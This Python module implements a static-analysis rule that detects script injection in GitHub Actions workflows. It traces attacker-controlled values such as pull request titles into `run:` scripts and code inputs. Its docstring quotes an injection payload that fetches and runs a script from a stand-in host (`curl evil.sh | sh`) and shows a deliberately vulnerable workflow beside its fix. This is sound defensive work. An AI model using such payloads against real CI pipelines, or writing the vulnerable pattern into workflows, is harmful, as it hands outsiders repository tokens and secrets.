from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import NamedTuple

from bastion import knowledge
from bastion.findings import Confidence, Severity
from bastion.model import triggers
from bastion.model.expressions import (
    ContextPath,
    ExpressionError,
    find_expressions,
    mask_expressions,
    parse_expression,
)
from bastion.model.guards import Guards, Reach, Reachability
from bastion.model.walk import expression_span, iter_expressions
from bastion.model.workflow import Action, Fields, Job, Step, Workflow
from bastion.rules.base import Hit, Rule
from bastion.rules.facts import facts
from bastion.rules.taint import (
    ATTACKER_OUTPUTS,
    JS_IDENTIFIER,
    SHELL_VARIABLE,
    Flow,
    Scope,
    attacker_source,
    env_entry,
    env_levels,
    value_flows,
)
from bastion.source.yaml import MappingNode, ScalarNode, SequenceNode

# --- Sinks -----------------------------------------------------------------------------------


class Sink(NamedTuple):
    node: ScalarNode
    route: str
    what: str
    """The sink, for messages: "the `run:` script"."""
    language: str
    fix: str


_SHELL_FIX = 'pass it through an `env:` variable and use "$VAR" instead'
_JS_FIX = "pass it through an `env:` variable and read `process.env.VAR` instead"


def _sinks(step: Step) -> list[Sink]:
    """The code sinks of ``step`` that hold an expression."""
    run = step.run
    if run is not None:
        if "${{" not in run.value:
            return []
        return [Sink(run, f"{step.route}/run", "the `run:` script", "shell code", _SHELL_FIX)]
    uses = step.uses
    if uses is None or "with" not in step.fields:
        return []
    if uses.owner.lower() == "vmactions" and uses.repo.lower().endswith("-vm") and not uses.path:
        code: Mapping[str, str] = {"run": "shell code in the virtual machine"}
    else:
        info = knowledge.lookup(uses)  # `code-inputs` of src/bastion/knowledge/actions.toml
        code = info.code_inputs if info is not None else {}
    sinks: list[Sink] = []
    for entry in (step.with_ if code else None) or ():
        language = code.get(entry.key.value.lower())
        value = entry.value
        if language is not None and isinstance(value, ScalarNode) and "${{" in value.value:
            fix = _JS_FIX if language.startswith("JavaScript") else _SHELL_FIX
            what = f"the `{entry.key.value}:` input of {uses.slug}"
            sinks.append(Sink(value, f"{step.route}/with/{entry.key.value}", what, language, fix))
    return sinks


# --- What a value carries --------------------------------------------------------------------


class Taint(NamedTuple):
    """Why the value of a context read is attacker-controlled."""

    context: str
    """The context as the expression reads it."""
    who: str
    severity: Severity
    confidence: Confidence
    origin: str = ""
    """For a derived value: the attacker-controlled context it carries."""
    hops: tuple[str, ...] = ()
    """For a derived value: how it got here (``env `TITLE```, ``an output of step `meta```)."""
    event: str = ""
    """For a high-severity taint: the privileged event that delivers it."""
    note: str = ""
    """Said after who controls the value."""
    json: bool = False
    """The text arrives JSON-encoded, which a JavaScript sink reads as a literal."""

    @property
    def rank(self) -> tuple[int, int]:
        return (self.severity, self.confidence)

    def derived(self, context: str, hop: str) -> Taint:
        return self._replace(
            context=context,
            confidence=min(self.confidence, Confidence.MEDIUM),
            origin=self.origin or self.context,
            hops=(*self.hops, hop),
        )


def _scalar_texts(node: object) -> list[str]:
    """Every scalar under ``node`` (a matrix key's value or list of values)."""
    if isinstance(node, ScalarNode):
        return [node.value]
    if isinstance(node, SequenceNode):
        return [text for item in node.value for text in _scalar_texts(item)]
    if isinstance(node, MappingNode):
        return [text for entry in Fields(node) for text in _scalar_texts(entry.value)]
    return []


def _include_texts(node: object, name: str) -> list[str]:
    """What `include` sets ``name`` to: a whole expression, or each entry's value of it."""
    if isinstance(node, ScalarNode):
        return [node.value]  # include: ${{ fromJSON(...) }}
    texts: list[str] = []
    for item in node.value if isinstance(node, SequenceNode) else ():
        if isinstance(item, ScalarNode):
            texts.append(item.value)
        elif isinstance(item, MappingNode):
            for entry in Fields(item):
                if entry.key.value.lower() == name:
                    texts.extend(_scalar_texts(entry.value))
    return texts


def _worst(taints: list[Taint | None]) -> Taint | None:
    found = [t for t in taints if t is not None]
    return max(found, key=lambda t: t.rank) if found else None


MAX_DEPTH = 6
"""How many hops (env variable, step output, job output) a value is followed through."""

# Pattern strings, compiled by `re` when a script writing $GITHUB_OUTPUT or $GITHUB_ENV (or a
# github-script) is first read (see taint.SHELL_VARIABLE).
_SHELL_ASSIGNMENT = (
    r"\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)*)?([A-Za-z_][A-Za-z0-9_]*)="
)
_WRITTEN_NAME = r"([A-Za-z_][A-Za-z0-9_-]*)(?:=|<<)"
_SET_OUTPUT_COMMAND = r"::set-output\s+name=([A-Za-z0-9_-]+)::"
_JS_PAYLOAD = r"context\.payload((?:\.[A-Za-z_][A-Za-z0-9_]*)+)"
_JS_DECLARATION = r"\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*="
_JS_WRITE = r"core\.(setOutput|exportVariable)\(\s*['\"`]([^'\"`]+)['\"`]"
_JS_RETURN = r"\breturn\b"

_FILE_COMMANDS = {"setOutput": "GITHUB_OUTPUT", "exportVariable": "GITHUB_ENV"}


class Analysis:
    """The taint of context reads in one workflow or action."""

    def __init__(self, model: Workflow | Action) -> None:
        self.workflow = model if isinstance(model, Workflow) else None
        self.events = {t.event for t in self.workflow.triggers} if self.workflow else set()
        self.privileged = facts(model).privileged
        self._input_types: dict[str, set[str]] | None = None
        self._written: dict[tuple[int, str], dict[str, Taint]] = {}
        self._matrix: dict[tuple[int, str, int], Taint | None] = {}

    @property
    def input_types(self) -> dict[str, set[str]]:
        """The types of the workflow's dispatch and call inputs, by lowercase name."""
        if self._input_types is None:
            self._input_types = self._read_input_types()
        return self._input_types

    def _read_input_types(self) -> dict[str, set[str]]:
        types: dict[str, set[str]] = {}
        if self.workflow is None:
            return types
        for trigger in self.workflow.triggers:
            if trigger.event not in ("workflow_dispatch", "workflow_call"):
                continue
            config = trigger.config
            inputs = Fields(config).mapping("inputs") if isinstance(config, MappingNode) else None
            for entry in inputs or ():
                spec = entry.value
                kind = Fields(spec).text("type") if isinstance(spec, MappingNode) else None
                types.setdefault(entry.key.value.lower(), set()).add(kind or "string")
        return types

    # -- severity --

    def _under(self, events: frozenset[str]) -> tuple[Severity, str]:
        """Severity of a value the payload of ``events`` carries, and the privileged event."""
        for event in self.privileged:
            if event in events:
                return Severity.HIGH, event
        return Severity.MEDIUM, ""

    def _delivered(self, events: frozenset[str]) -> bool:
        """Whether some run of the workflow can carry a payload of ``events``."""
        if self.workflow is None or "workflow_call" in self.events:
            return True  # an action, or a reusable workflow: the caller's event
        return bool(self.events & events)

    # -- expressions --

    def expression(self, source: str, scope: Scope, depth: int = 0) -> Taint | None:
        try:
            expr = parse_expression(source)
        except ExpressionError:
            return None
        taints: list[Taint | None] = []
        for flow in value_flows(expr):
            taint = self.flow(flow, scope, depth)
            if taint is not None:
                written = source[flow.path.start : flow.path.end]
                taint = taint._replace(context=written, json=taint.json or flow.serialized)
            taints.append(taint)
        return _worst(taints)

    def text(self, text: str, scope: Scope, depth: int) -> Taint | None:
        """The worst taint of the expressions embedded in ``text``."""
        return _worst([self.expression(e.source, scope, depth) for e in find_expressions(text)])

    def flow(self, flow: Flow, scope: Scope, depth: int) -> Taint | None:
        if depth > MAX_DEPTH:
            return None
        path = flow.path
        parts, context = path.parts, path.dotted()
        source = attacker_source(path, serialized=flow.serialized)
        if source is not None:
            if not self._delivered(source.events):
                note = " (though no trigger of this workflow sets it today)"
                return Taint(context, source.who, Severity.LOW, Confidence.LOW, note=note)
            severity, event = self._under(source.events)
            return Taint(context, source.who, severity, Confidence.HIGH, event=event)
        if parts[0] == "inputs" or parts[:3] == ("github", "event", "inputs"):
            return self._input(parts[1 if parts[0] == "inputs" else 3 :], context)
        if parts[:3] == ("github", "event", "client_payload"):
            who = "whoever sends the repository_dispatch event (a token with write access)"
            return Taint(context, who, Severity.LOW, Confidence.HIGH)
        if parts[0] == "env" and len(parts) >= 2:
            return self.env(parts[1], scope, depth + 1, context)
        if parts[0] == "steps" and len(parts) >= 3 and parts[2] == "outputs":
            output = parts[3] if len(parts) >= 4 else "*"
            return self.step_output(parts[1], output, scope, depth + 1, context)
        if parts[0] == "matrix" and len(parts) >= 2:
            return self.matrix(parts[1], scope, depth + 1, context)
        if parts[0] == "needs" and len(parts) >= 3 and parts[2] == "outputs":
            output = parts[3] if len(parts) >= 4 else "*"
            return self.job_output(parts[1], output, depth + 1, context)
        return None

    def _input(self, rest: tuple[str, ...], context: str) -> Taint | None:
        if self.workflow is None:
            who = "the workflow that uses this action"
            return Taint(context, who, Severity.MEDIUM, Confidence.MEDIUM)
        if rest and rest[0] != "*":
            types = self.input_types.get(rest[0])
            if types and "string" not in types:
                return None  # booleans, numbers and choices cannot carry code
        who = "whoever dispatches or calls the workflow (write access)"
        return Taint(context, who, Severity.LOW, Confidence.HIGH)

    # -- env variables --

    def env(
        self, name: str, scope: Scope, depth: int, context: str, level: int = 0
    ) -> Taint | None:
        """The taint of env variable ``name`` (lowercase) as seen from ``scope``."""
        if depth > MAX_DEPTH:
            return None
        defined = env_entry(name, env_levels(scope, self.workflow), level)
        if defined is not None:
            entry, index = defined
            if not isinstance(entry.value, ScalarNode):
                return None
            found = _worst(
                [
                    self._env_expression(e.source, scope, depth, index)
                    for e in find_expressions(entry.value.value)
                ]
            )
            if found is not None:
                return found.derived(context, f"env `{entry.key.value}`")
        # A variable an earlier step wrote to $GITHUB_ENV.
        for step in reversed(scope.earlier):
            written = self.written(step, scope, "GITHUB_ENV", depth)
            found = written.get(name) or written.get("*")
            if found is not None:
                return found.derived(context, "$GITHUB_ENV")
        return None

    def _env_expression(self, source: str, scope: Scope, depth: int, level: int) -> Taint | None:
        """An expression in an env value at ``level``: its own env reads look further out."""
        try:
            expr = parse_expression(source)
        except ExpressionError:
            return None
        taints: list[Taint | None] = []
        for flow in value_flows(expr):
            parts = flow.path.parts
            if parts[0] == "env" and len(parts) >= 2:
                dotted = flow.path.dotted()
                taints.append(self.env(parts[1], scope, depth + 1, dotted, level + 1))
            else:
                taints.append(self.flow(flow, scope, depth))
        return _worst(taints)

    # -- matrix values --

    def matrix(self, name: str, scope: Scope, depth: int, context: str) -> Taint | None:
        """The taint of ``matrix.<name>``: of the expressions the job's `strategy.matrix`
        builds it from (the whole matrix, the key's values, or `include` entries)."""
        job = scope.job
        if job is None or depth > MAX_DEPTH:
            return None
        key = (id(job), name, depth)
        if key not in self._matrix:
            self._matrix[key] = self._matrix_value(job, name, depth)
        found = self._matrix[key]
        return found.derived(context, f"matrix `{name}`") if found is not None else None

    def _matrix_value(self, job: Job, name: str, depth: int) -> Taint | None:
        """The worst taint of what ``job``'s matrix builds ``matrix.<name>`` from (the same
        for every step of the job: computed once per job)."""
        strategy = job.fields.mapping("strategy")
        node = strategy.get("matrix") if strategy is not None else None
        if node is None:
            return None
        texts: list[str] = []
        if isinstance(node, ScalarNode):
            texts.append(node.value)  # matrix: ${{ fromJSON(...) }}
        elif isinstance(node, MappingNode):
            for entry in Fields(node):
                key = entry.key.value.lower()
                if key == name:
                    texts.extend(_scalar_texts(entry.value))
                elif key == "include":
                    texts.extend(_include_texts(entry.value, name))
        # Expressions in `strategy` see the job's inputs (`needs`, `github`), not its steps.
        outer = Scope(job, job.steps, 0)
        return _worst([self.text(text, outer, depth) for text in texts if "${{" in text])

    # -- step and job outputs --

    def step_output(
        self, step_id: str, output: str, scope: Scope, depth: int, context: str
    ) -> Taint | None:
        for step in reversed(scope.earlier):
            if (step.step_id or "").lower() != step_id:
                continue
            known = ATTACKER_OUTPUTS.of(step.uses)
            if known is not None and (output == "*" or known.covers(output)):
                confidence = known.confidence(step)
                if confidence is None:
                    return None
                severity, event = self._under(frozenset(self.privileged))
                who = f"whoever opens the pull request ({known.holds})"
                json = known.is_json(step)
                return Taint(context, who, severity, confidence, event=event, json=json)
            written = self.written(step, scope.at(step), "GITHUB_OUTPUT", depth)
            found = written.get(output) or written.get("*")
            if found is None and output == "*" and written:
                found = _worst(list(written.values()))
            if found is not None:
                return found.derived(context, f"an output of step `{step.step_id}`")
            return None
        return None

    def job_output(self, job_id: str, output: str, depth: int, context: str) -> Taint | None:
        if self.workflow is None or depth > MAX_DEPTH:
            return None
        job = next((j for j in self.workflow.jobs if j.job_id.lower() == job_id), None)
        outputs = job.fields.mapping("outputs") if job else None
        if job is None or outputs is None:
            return None
        scope = Scope(job, job.steps, len(job.steps))
        taints: list[Taint | None] = []
        for entry in outputs:
            if output in ("*", entry.key.value.lower()) and isinstance(entry.value, ScalarNode):
                taints.append(self.text(entry.value.value, scope, depth))
        found = _worst(taints)
        return found.derived(context, f"an output of job `{job.job_id}`") if found else None

    # -- what a step writes to $GITHUB_OUTPUT or $GITHUB_ENV --

    def written(self, step: Step, scope: Scope, target: str, depth: int) -> dict[str, Taint]:
        """Names (lowercase; ``*`` for unknown) that ``step`` sets from attacker data."""
        key = (id(step), target)
        cached = self._written.get(key)
        if cached is not None:
            return cached
        self._written[key] = {}  # guards against a loop through env variables
        here = scope.at(step)
        result: dict[str, Taint] = {}
        if step.run is not None:
            result = self._shell_writes(step.run.value, here, target, depth)
        elif step.uses is not None and step.uses.is_action("actions/github-script"):
            script = step.input("script")
            if script is not None:
                result = self._script_writes(script.value, here, target, depth)
        self._written[key] = result
        return result

    def _shell_writes(self, script: str, scope: Scope, target: str, depth: int) -> dict[str, Taint]:
        if target not in script:
            return {}
        variables: dict[str, Taint] = {}
        result: dict[str, Taint] = {}
        for line in script.splitlines():
            embedded = find_expressions(line)
            masked = mask_expressions(line, embedded)
            sources: list[tuple[int, Taint | None]] = [
                (e.start, self.expression(e.source, scope, depth + 1)) for e in embedded
            ]
            for match in re.finditer(SHELL_VARIABLE, masked):
                name = match.group(1)
                if name in variables:
                    sources.append((match.start(), variables[name]))
                elif not name.startswith("GITHUB_"):
                    taint = self.env(name.lower(), scope, depth + 1, f"env.{name}")
                    sources.append((match.start(), taint))
            found = _worst([taint for _, taint in sources])
            if found is None:
                continue
            assignment = re.match(_SHELL_ASSIGNMENT, masked)
            if assignment:
                variables[assignment.group(1)] = found
            if target == "GITHUB_OUTPUT" and "::set-output" in masked:
                names = list(re.finditer(_SET_OUTPUT_COMMAND, masked))
            elif target in masked:
                names = list(re.finditer(_WRITTEN_NAME, masked.split(">", 1)[0]))
            else:
                continue
            if not names:
                result["*"] = found
            for name_match in names:
                # Only what follows `name=` is its value: `tool $X --print NAME=...` is not.
                after = [t for at, t in sources if at >= name_match.end()]
                value = _worst(after)
                if value is not None:
                    result[name_match.group(1).lower()] = value
        return result

    def _script_writes(
        self, script: str, scope: Scope, target: str, depth: int
    ) -> dict[str, Taint]:
        variables: dict[str, Taint] = {}
        result: dict[str, Taint] = {}
        for line in script.splitlines():
            embedded = find_expressions(line)
            taints = [self.expression(e.source, scope, depth + 1) for e in embedded]
            masked = mask_expressions(line, embedded)
            for match in re.finditer(_JS_PAYLOAD, masked):
                parts = ("github", "event", *match.group(1).lower().split(".")[1:])
                taints.append(self.flow(Flow(ContextPath(parts, 0, 0), False, True), scope, depth))
            taints.extend(
                variables[word] for word in re.findall(JS_IDENTIFIER, masked) if word in variables
            )
            found = _worst(taints)
            if found is None:
                continue
            declared = re.search(_JS_DECLARATION, masked)
            if declared:
                variables[declared.group(1)] = found
            for call, name in re.findall(_JS_WRITE, masked):
                if _FILE_COMMANDS[call] == target:
                    result[name.lower()] = found
            if target == "GITHUB_OUTPUT" and re.search(_JS_RETURN, masked):
                result["result"] = found
        return result


# --- The rule --------------------------------------------------------------------------------


class TemplateInjection(Rule):
    """Flags attacker-controlled `${{ }}` expressions expanded into code.

    GitHub substitutes `${{ }}` expressions into the text of a step's `run:` script (or
    an action's script input) *before* the shell or interpreter reads it. When the value is
    written by an outsider, such as a pull request title, an issue body, a comment or a
    branch name, its text becomes part of the program: a title like
    `a"; curl evil.sh | sh; echo "` runs the attacker's commands.

    Sinks: `run:` in workflows and composite actions, the `script:` of
    `actions/github-script`, and the inputs that the knowledge base (`code-inputs`, see
    docs/knowledge.md) knows run as code: azure/cli, azure/powershell, appleboy/ssh-action,
    nick-fields/retry, uraimo/run-on-arch-action, `mikefarah/yq`'s `cmd`,
    `Amadevus/pwsh-script`'s `script`, the lodash templates of `tibdex/backport`, vmactions
    VMs, and others). An expression in `if:`, `env:` or an ordinary `with:`
    input is passed as data and is not a sink.

    Attacker-controlled values: pull request title, body, head branch and label; issue,
    comment, review and discussion text; commit messages and author names and emails;
    the head branch and commit of a `workflow_run`; wiki page names; `toJSON(...)` of an
    object holding any of them. The value is also followed one hop at a time through
    `env:` variables, `$GITHUB_ENV`, step outputs written to `$GITHUB_OUTPUT` (or by
    `core.setOutput` in github-script), job outputs, and the outputs of actions that report
    file or branch names (tj-actions/changed-files, dorny/paths-filter's csv and json
    lists); such derived
    findings have medium confidence. Inputs of `workflow_dispatch`/`workflow_call` are
    reported with low severity (callers need write access) unless typed boolean, number
    or choice; inputs of a composite action with medium severity and confidence.

    Matrix values are followed into the expressions `strategy.matrix` builds them from (a
    key's values, `include` entries, or the whole matrix from `fromJSON(...)`).

    Not reported: numbers, SHAs, ids, logins, `github.repository`, secrets, a bare object
    (it expands to the word `Object`), and event fields this rule does not know as
    outsider-written, including those only people with write access set (release
    notes, label names, pushed branch and tag names).

    Severity is high when a privileged trigger (`pull_request_target`, `workflow_run`,
    `issue_comment`, `issues`, `discussion(_comment)`: events an outsider starts whose run
    gets the base repository's write token and secrets, from the table in
    `model/triggers.py`) delivers the value; medium otherwise (`pull_request_review` and
    `pull_request_review_comment` from a fork get a read-only token and no secrets, as
    `pull_request` does; a `workflow_run` whose upstream workflows, found by name in the same
    repository, only people with write access can start is not privileged) (and in
    actions and reusable workflows, whose event is the caller's); low, with low confidence,
    for a field that no trigger of the workflow delivers. A JSON-encoded value
    (`toJSON(...)`) in a JavaScript sink is reported with low confidence, since JavaScript
    reads JSON as a literal; so are the file lists of tj-actions/changed-files, which it
    shell-escapes unless `safe_output: false`.

    A step that no outsider's run reaches (its job's or its own `if:`, the jobs it needs,
    or an earlier step that exits for a fork's run; see `bastion explain untrusted-checkout`)
    is not reported; one that only a maintainer's action reaches (a label, the author
    association, the actor) is reported one confidence level lower, saying which action.

    ## Why it matters
    Script injection is the most common way into a CI job; under a privileged trigger it
    hands an outsider the repository's token and secrets. The playbook's CI/CD controls
    (C1, C5, C6) limit what such a job holds; this rule removes the way in.

    ## Example
    ```yaml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: echo "${{ github.event.issue.title }}"   # flagged
    ```

    ## How to fix
    Pass the value through an environment variable, which the shell treats as data, and
    quote it:

    ```yaml
          - run: echo "$TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```

    In `actions/github-script`, read `process.env.TITLE` (or `context.payload`) instead.
    """

    id = "template-injection"
    summary = "attacker-controlled expression expanded into code"
    severity = Severity.HIGH
    confidence = Confidence.HIGH

    def check_workflow(self, workflow: Workflow) -> Iterator[Hit]:
        analysis = workflow.analysis(Analysis)
        outsiders = [
            t.event
            for t in workflow.triggers
            if triggers.event(t.event).outsider or t.event in analysis.privileged
        ]
        call = workflow.has_trigger("workflow_call")
        guards = Guards(workflow, outsiders) if outsiders and not call else None
        for job in workflow.jobs:
            yield from self._steps(analysis, job, job.steps, workflow, guards)

    def check_action(self, action: Action) -> Iterator[Hit]:
        if action.is_composite:
            yield from self._steps(action.analysis(Analysis), None, action.steps, action, None)

    def _steps(
        self,
        analysis: Analysis,
        job: Job | None,
        steps: list[Step],
        model: Workflow | Action,
        guards: Guards | None,
    ) -> Iterator[Hit]:
        for position, step in enumerate(steps):
            sinks = _sinks(step)
            if not sinks:
                continue
            scope = Scope(job, steps, position)
            reach: Reachability | None = None  # judged for the first outsider's value
            for sink in sinks:
                for scalar, embedded in iter_expressions(sink.node):
                    taint = analysis.expression(embedded.source, scope)
                    if taint is None:
                        continue
                    if taint.json and sink.language == "JavaScript":
                        taint = taint._replace(confidence=Confidence.LOW)  # a JSON literal
                    message = _message(taint, sink)
                    outsider = taint.severity > Severity.LOW  # else a writer's value
                    if outsider and reach is None and guards is not None and job is not None:
                        reach = guards.step(job, step)
                    if outsider and reach is not None and reach.reach is Reach.NOBODY:
                        continue  # no outsider's run gets here
                    if outsider and reach is not None and reach.reach is Reach.MAINTAINER:
                        lower = max(Confidence.LOW, taint.confidence - 1)
                        taint = taint._replace(confidence=Confidence(lower))
                        message = (
                            f"{message}; only a maintainer's action reaches the step ({reach.why})"
                        )
                    yield Hit(
                        message,
                        scalar,
                        sink.route,
                        severity=taint.severity,
                        confidence=taint.confidence,
                        span=expression_span(model.lines, scalar, embedded),
                    )


def _message(taint: Taint, sink: Sink) -> str:
    carries = ""
    if taint.origin:
        carries = f", which carries `{taint.origin}` (via {', then '.join(taint.hops)}),"
    under = f" under `{taint.event}` (write token and secrets)" if taint.event else ""
    return (
        f"`{taint.context}`{carries} is controlled by {taint.who}{taint.note} and is expanded "
        f"into {sink.what}{under}, where its text runs as {sink.language}; {sink.fix}"
    )
